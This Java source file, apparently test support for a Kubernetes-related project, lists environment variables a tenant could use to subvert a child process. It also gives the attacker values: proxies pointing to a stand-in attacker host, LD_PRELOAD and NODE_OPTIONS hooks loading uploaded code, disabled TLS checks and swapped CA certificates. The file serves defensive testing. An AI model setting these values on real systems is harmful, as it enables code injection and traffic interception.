package io.kubezap.session.child;

import java.util.HashMap;
import java.util.Map;

/**
 * Issue 68 item 4: what a tenant's {@code spec.podTemplate.env} (or anything else setting the pod's environment) would
 * hand a child process, each a name the child's runtime acts on before any of the pod's checks.
 */
public final class TenantVariables {

    /** Each with a value an attacker would give it: a file the tenant sent, stored under a predictable path. */
    public static final Map<String, String> DANGEROUS = Map.ofEntries(
            Map.entry("OPENSSL_CONF", "/var/lib/kubezap/media/ab/abcdef.bin"),
            Map.entry("OPENSSL_MODULES", "/var/lib/kubezap/media/ab"),
            Map.entry("HTTPS_PROXY", "http://attacker.example:3128"),
            Map.entry("https_proxy", "http://attacker.example:3128"),
            Map.entry("HTTP_PROXY", "http://attacker.example:3128"),
            Map.entry("ALL_PROXY", "socks5://attacker.example:1080"),
            Map.entry("GCONV_PATH", "/var/lib/kubezap/media/ab"),
            Map.entry("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
            Map.entry("NODE_OPTIONS", "--require /var/lib/kubezap/media/ab/hook.js"),
            Map.entry("NODE_EXTRA_CA_CERTS", "/var/lib/kubezap/media/ab/ca.pem"),
            Map.entry("SSL_CERT_FILE", "/var/lib/kubezap/media/ab/ca.pem"),
            Map.entry("LD_PRELOAD", "/var/lib/kubezap/media/ab/hook.so"),
            Map.entry("LD_LIBRARY_PATH", "/var/lib/kubezap/media/ab"),
            Map.entry("LD_AUDIT", "/var/lib/kubezap/media/ab/audit.so"),
            Map.entry("FONTCONFIG_FILE", "/var/lib/kubezap/media/ab/fonts.conf"),
            Map.entry("KUBEZAP_DATABASE_PASSWORD", "the pod's own secret"));

    private TenantVariables() {
    }

    /** The JVM's own environment with {@link #DANGEROUS} added to it. */
    public static ChildEnvironment podWithThem() {
        var pod = new HashMap<>(System.getenv());
        pod.putAll(DANGEROUS);
        return new ChildEnvironment(pod);
    }
}
